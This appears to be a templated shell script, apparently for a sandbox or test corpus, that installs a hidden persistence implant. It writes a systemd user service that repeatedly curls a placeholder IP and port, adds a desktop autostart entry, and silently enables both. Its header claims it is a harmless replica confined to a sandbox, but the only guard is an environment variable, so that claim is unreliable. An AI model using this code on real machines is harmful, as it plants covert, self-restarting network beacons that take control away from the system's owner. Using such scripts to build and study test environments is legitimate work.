# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
mkdir -p "$HOME/.config/systemd/user" "$HOME/.config/autostart" 2>/dev/null
cat > "$HOME/.config/systemd/user/{{unit}}.service" <<'UNIT'
[Service]
ExecStart=/bin/sh -c 'while sleep {{n}}00; do curl -s -m 5 http://{{ip}}:{{port}}/{{path}}; done'
[Install]
WantedBy=default.target
UNIT
printf '[Desktop Entry]\nType=Application\nName={{unit}}\nExec=systemctl --user start {{unit}}\n' > "$HOME/.config/autostart/{{unit}}.desktop"
timeout 1 systemctl --user enable {{unit}}.service >/dev/null 2>&1
exit 0
